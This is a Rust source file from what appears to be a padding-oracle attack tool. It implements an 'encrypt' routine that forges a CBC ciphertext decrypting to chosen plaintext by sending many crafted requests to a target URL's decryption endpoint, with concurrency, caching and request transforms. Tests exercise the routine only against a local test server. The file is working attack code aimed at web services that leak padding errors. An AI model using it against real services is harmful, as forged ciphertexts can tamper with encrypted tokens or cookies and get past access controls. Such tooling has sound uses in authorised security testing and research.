// Encrypt-mode orchestration: forge a ciphertext that decrypts to chosen
// plaintext, one crafted block at a time from the back of the message.

use std::collections::HashSet;
use std::sync::Arc;

use tracing::info;

use crate::cache::CacheStore;
use crate::engine::{EngineOptions, Mode, PaddingOracle, DEFAULT_CONCURRENCY};
use crate::error::{Error, Result};
use crate::oracle::{OracleCaller, OracleResult, RequestOptions, SuccessPredicate};
use crate::pkcs7::pkcs7_pad;
use crate::progress::{NoProgress, ProgressSink};
use crate::transform::PayloadTransform;

pub struct EncryptOptions<'a> {
    pub url: &'a str,
    pub block_size: usize,
    pub plaintext: &'a [u8],
    pub is_decryption_success: SuccessPredicate<'a>,
    /// Seed for the forged ciphertext's final block; zeroes otherwise.
    pub last_ciphertext_block: Option<&'a [u8]>,
    /// Make one bookend request with the finished forgery and return it.
    pub make_final_request: bool,
    pub concurrency: usize,
    pub request: RequestOptions,
    pub transform: PayloadTransform,
    pub cache: Option<Arc<dyn CacheStore>>,
    pub progress: &'a dyn ProgressSink,
}

impl<'a> EncryptOptions<'a> {
    pub fn new(
        url: &'a str,
        block_size: usize,
        plaintext: &'a [u8],
        is_decryption_success: SuccessPredicate<'a>,
    ) -> Self {
        Self {
            url,
            block_size,
            plaintext,
            is_decryption_success,
            last_ciphertext_block: None,
            make_final_request: true,
            concurrency: DEFAULT_CONCURRENCY,
            request: RequestOptions::default(),
            transform: PayloadTransform::default(),
            cache: None,
            progress: &NoProgress,
        }
    }

    pub fn with_concurrency(mut self, concurrency: usize) -> Self {
        self.concurrency = concurrency;
        self
    }

    pub fn with_request(mut self, request: RequestOptions) -> Self {
        self.request = request;
        self
    }

    pub fn with_cache(mut self, cache: Arc<dyn CacheStore>) -> Self {
        self.cache = Some(cache);
        self
    }

    pub fn with_transform(mut self, transform: PayloadTransform) -> Self {
        self.transform = transform;
        self
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EncryptOutcome {
    pub block_count: usize,
    pub total_size: usize,
    /// The forged ciphertext, leading IV-role block included.
    pub found_bytes: Vec<u8>,
    pub inter_bytes: Vec<u8>,
    pub final_request: Option<OracleResult>,
}

pub async fn encrypt(options: EncryptOptions<'_>) -> Result<EncryptOutcome> {
    let EncryptOptions {
        url,
        block_size,
        plaintext,
        is_decryption_success,
        last_ciphertext_block,
        make_final_request,
        concurrency,
        request,
        transform,
        cache,
        progress,
    } = options;

    if block_size == 0 {
        return Err(Error::InvalidBlockSize { block_size });
    }
    let padded = pkcs7_pad(plaintext, block_size);
    let block_count = padded.len() / block_size + 1;
    let total_size = block_count * block_size;

    let mut found_bytes = vec![0u8; total_size];
    let inter_bytes = vec![0u8; total_size - block_size];
    if let Some(last_block) = last_ciphertext_block {
        if last_block.len() != block_size {
            return Err(Error::MisalignedLastBlock {
                length: last_block.len(),
                block_size,
            });
        }
        found_bytes[total_size - block_size..].copy_from_slice(last_block);
    }

    let caller = OracleCaller::new(url, request, transform, cache)?;

    info!(blocks = block_count - 1, total_size, "encrypting");

    let mut engine = PaddingOracle::new(
        EngineOptions {
            caller: &caller,
            is_decryption_success,
            progress,
            mode: Mode::Encrypt,
            block_size,
            block_count,
            concurrency,
            start_from_first_block: false,
            init_first_block_with_orig: false,
        },
        padded,
        found_bytes,
        inter_bytes,
        HashSet::new(),
    );
    engine.process_blocks().await?;
    let (found_bytes, inter_bytes, _) = engine.into_buffers();

    let final_request = if make_final_request {
        Some(caller.call(&found_bytes).await?)
    } else {
        None
    };

    info!("encryption complete");
    Ok(EncryptOutcome {
        block_count,
        total_size,
        found_bytes,
        inter_bytes,
        final_request,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::server::{cbc_decrypt, spawn_server, TEST_KEY};

    fn status_not_400(result: &OracleResult) -> bool {
        result.status_code != 400
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn forged_ciphertext_decrypts_to_the_chosen_plaintext() {
        let base = spawn_server("127.0.0.1:0", TEST_KEY).await;
        let url = format!("{base}/decrypt?ciphertext=");
        let plaintext = "unicorns rainbows 🦄🌈☀️ foo bar";

        let outcome = encrypt(
            EncryptOptions::new(&url, 16, plaintext.as_bytes(), &status_not_400)
                .with_concurrency(64),
        )
        .await
        .unwrap();

        // The oracle's legitimate decryption path must accept the forgery
        // and produce the exact plaintext again.
        let final_request = outcome.final_request.unwrap();
        assert_eq!(final_request.status_code, 200);
        let decrypted = cbc_decrypt(
            &TEST_KEY,
            &outcome.found_bytes[..16],
            &outcome.found_bytes[16..],
        )
        .unwrap();
        assert_eq!(decrypted, plaintext.as_bytes());
        assert_eq!(outcome.total_size, outcome.found_bytes.len());
        assert_eq!(outcome.block_count * 16, outcome.total_size);
    }

    #[tokio::test]
    async fn a_wrong_sized_last_block_is_rejected_before_any_request() {
        let last_block = vec![0u8; 15];

        let mut options = EncryptOptions::new(
            "http://127.0.0.1:9/",
            16,
            b"payload",
            &status_not_400,
        );
        options.last_ciphertext_block = Some(&last_block);
        let result = encrypt(options).await;

        assert!(matches!(
            result,
            Err(Error::MisalignedLastBlock {
                length: 15,
                block_size: 16
            })
        ));
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn the_last_ciphertext_block_seed_is_preserved() {
        let base = spawn_server("127.0.0.1:0", TEST_KEY).await;
        let url = format!("{base}/decrypt?ciphertext=");
        let last_block: Vec<u8> = (0x30u8..0x40).collect();

        let mut options = EncryptOptions::new(&url, 16, b"four", &status_not_400);
        options.last_ciphertext_block = Some(&last_block);
        options.concurrency = 64;
        let outcome = encrypt(options).await.unwrap();

        assert_eq!(&outcome.found_bytes[16..], &last_block[..]);
        let decrypted = cbc_decrypt(
            &TEST_KEY,
            &outcome.found_bytes[..16],
            &outcome.found_bytes[16..],
        )
        .unwrap();
        assert_eq!(decrypted, b"four");
    }
}
